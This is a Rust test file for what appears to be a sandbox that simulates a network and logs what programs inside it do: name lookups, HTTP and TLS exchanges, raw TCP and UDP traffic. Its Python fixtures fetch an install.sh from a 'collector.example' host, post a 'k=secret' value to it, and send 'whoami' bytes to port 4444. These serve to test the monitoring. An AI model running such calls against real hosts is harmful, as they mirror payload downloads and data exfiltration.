//! The simulated network, as programs in real boxes see it, and what is recorded of them.

use serde_json::{Value, json};

use crate::support::{everybody, one, py, python, sh, stdout, with};

/// Runs a script in a simulated network that it trusts, as everybody.
fn simulated(script: &str) -> Vec<Value> {
    if !python() {
        return Vec::new();
    }
    let run = with(py(script), json!({"network": "simulate", "trusting": true}));
    everybody().into_iter().map(|who| one(who, run.clone())).collect()
}

/// All acts of a kind.
fn acts<'a>(answer: &'a Value, deed: &str) -> Vec<&'a Value> {
    answer["acts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|act| act["deed"] == deed)
        .collect()
}

/// The one conversation at a port.
fn conversation(answer: &Value, port: u16) -> &Value {
    let found: Vec<_> = acts(answer, "converse")
        .into_iter()
        .filter(|act| act["port"] == port)
        .collect();
    assert_eq!(found.len(), 1, "{port}: {}", answer["acts"]);
    found[0]
}

#[test]
fn names_have_addresses_and_web_servers_answer() {
    let script = "import urllib.request as u\n\
        print(u.urlopen('http://collector.example/a/install.sh').read().decode().splitlines()[0])\n\
        print(u.urlopen(u.Request('https://collector.example/x', b'k=secret', {'X-A': 'b'})).read().decode(), end='')";
    for answer in simulated(script) {
        assert_eq!(stdout(&answer), "#!/bin/sh\n{\"ok\":true}\n", "{answer}");
        let names: Vec<_> = acts(&answer, "resolve")
            .iter()
            .map(|act| act["name"].clone())
            .collect();
        assert!(
            names.iter().all(|name| name == "collector.example") && !names.is_empty(),
            "{names:?}"
        );
        let plain = conversation(&answer, 80);
        assert_eq!(
            (&plain["host"], &plain["language"]),
            (&json!("collector.example"), &json!("http"))
        );
        assert_eq!(plain["exchanges"][0]["target"], "/a/install.sh");
        let tls = conversation(&answer, 443);
        assert_eq!(tls["tls"]["server_name"], "collector.example");
        assert_eq!(tls["tls"]["accepted"], true);
        assert_eq!(tls["exchanges"][0]["body"]["head"], "k=secret");
        assert_eq!(tls["exchanges"][0]["answer"], "200");
        assert!(answer["effect"]["losses"].is_null(), "{answer}");
        assert!(acts(&answer, "packet").is_empty(), "{answer}");
    }
}

#[test]
fn whoever_does_not_trust_our_authority_is_recorded_refusing_it() {
    if !python() {
        return;
    }
    let script = "import ssl, socket\nc = ssl.create_default_context()\n\
        try: c.wrap_socket(socket.create_connection(('a.example', 443)), server_hostname='a.example')\nexcept ssl.SSLError as e: print(e.reason)";
    for who in everybody() {
        let answer = one(who, with(py(script), json!({"network": "simulate"})));
        assert_eq!(stdout(&answer), "CERTIFICATE_VERIFY_FAILED\n", "{answer}");
        let tls = &conversation(&answer, 443)["tls"];
        assert_eq!(
            (&tls["accepted"], &tls["alert"]),
            (&json!(false), &json!("unknown_ca"))
        );
    }
}

#[test]
fn anything_may_be_said_to_anybody() {
    let script = "import socket\n\
        s = socket.create_connection(('203.0.113.5', 4444)); s.sendall(b'\\x00\\xffwhoami'); s.close()\n\
        s = socket.create_connection(('2001:db8::99', 9001)); s.sendall(b'over v6'); s.close()\n\
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'log line', ('203.0.113.9', 514))\n\
        u.sendto(b'nobody', ('203.0.113.9', 515))\n\
        try: socket.create_connection(('203.0.113.5', 4445))\nexcept OSError as e: print(e.errno)";
    for answer in simulated(script) {
        assert_eq!(stdout(&answer), "111\n", "{answer}");
        let said = conversation(&answer, 4444);
        assert_eq!(said["sent"]["head"]["base64"], "AP93aG9hbWk=");
        assert_eq!(
            (&said["address"], &said["language"]),
            (&json!("203.0.113.5"), &json!("raw"))
        );
        assert_eq!(conversation(&answer, 9001)["sent"]["head"], "over v6");
        let datagram = conversation(&answer, 514);
        assert_eq!(
            (&datagram["transport"], &datagram["sent"]["head"]),
            (&json!("udp"), &json!("log line"))
        );
        let packets: Vec<_> = acts(&answer, "packet")
            .iter()
            .map(|act| act["to"]["ip"]["port"].clone())
            .collect();
        assert_eq!(packets, [515, 4445], "{answer}");
    }
}

#[test]
fn a_quiet_command_has_no_acts() {
    for who in everybody() {
        let answer = one(who, with(sh("true"), json!({"network": "simulate"})));
        assert_eq!(answer["acts"], json!([]));
        assert!(answer["effect"]["contacts"].is_null(), "{answer}");
    }
}
